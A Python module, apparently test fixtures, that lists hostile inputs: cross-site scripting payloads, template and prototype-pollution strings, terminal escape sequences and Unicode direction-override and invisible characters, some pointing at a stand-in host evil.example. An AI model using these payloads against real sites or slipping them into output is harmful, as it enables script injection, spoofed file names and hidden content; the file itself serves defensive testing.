"""Texts that try to be more than text: markup and script, terminal escapes, and characters that steer or hide."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</ScRiPt ><sCrIpT>alert(3)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(4)>",
    "<img/src=`x`onerror=alert(5)>",
    "<img src=https://evil.example/pixel.png>",
    '"><svg onload=alert(6)>',
    "'><svg/onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(10)><text x=20 y=20>click</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(11)'>click</mi></math>",
    "<iframe src=javascript:alert(12)></iframe>",
    "<iframe srcdoc='<script>alert(13)</script>'></iframe>",
    "<object data=javascript:alert(14)></object>",
    "<embed src=javascript:alert(15)>",
    "<body onload=alert(16)>",
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)>x</details>",
    "<video><source onerror=alert(19)></video>",
    "<audio src=x onerror=alert(20)>",
    "<marquee onstart=alert(21)>x</marquee>",
    "<a href=javascript:alert(22)>click</a>",
    "<a href='data:text/html,<script>alert(23)</script>'>click</a>",
    "<form action=javascript:alert(24)><button>click</button></form>",
    "<button formaction=javascript:alert(25)>click</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(26)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "</style><style>body { display: none }</style>",
    '" style="position:fixed;inset:0;background:red" x="',
    '" onmouseover="alert(27)" x="',
    "' onmouseover='alert(28)' x='",
    "<!-- <script>alert(29)</script> -->",
    "--><script>alert(30)</script><!--",
    "<![CDATA[<script>alert(31)</script>]]>",
    "</title><script>alert(32)</script>",
    "</textarea><script>alert(33)</script>",
    "</noscript><script>alert(34)</script>",
    "<template><script>alert(35)</script></template>",
    "<x onclick=alert(36) tabindex=1 autofocus onfocus=alert(36)>x</x>",
    "&lt;script&gt;alert(37)&lt;/script&gt;",
    "&#60;script&#62;alert(38)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(39)\\u003c/script\\u003e",
    "${alert(40)}`${alert(41)}`",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "{{constructor.constructor('alert(42)')()}}",
    '{"__proto__": {"polluted": true}}',
    "__proto__",
    "constructor",
    "javascript:alert(43)",
    "]]>\"'`></script><svg onload=alert(44)>",
)
"""Markup in a text, an attribute, a style, a script's data or a template."""

ESCAPES = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x08\x08\x08overwritten",
    "\r overwritten",
    "\x00\x01\x7f",
)
"""What a terminal would obey."""

STEERING = (
    "\u202egnp.exe\u2066\u200b",
    "\u2067right to left\u2069",
    "a\u202db\u202cc",
    "\u200fmarked\u200e",
    "\u061cmarked",
    "zero\u200bwidth\u200d\ufeff",
    "soft\u00adhyphen",
    "line\u2028separator\u2029paragraph",
    "tags\U000e0041\U000e0042",
    "interlinear\ufff9annotation\ufffb",
)
"""What turns the reading direction, or is not seen."""

HALF = "half a pair \ud800"
"""What UTF-8 cannot hold; JSON can."""

PAYLOADS = (*SCRIPTS, *ESCAPES, *STEERING)

FEW = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(4)>",
    "</script><script>alert(2)</script>",
    '"><svg onload=alert(6)>',
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "\u202egnp.exe\u2066\u200b",
    "\x1b[31mred\x1b[0m",
)
"""One of each kind, where every one costs seconds."""
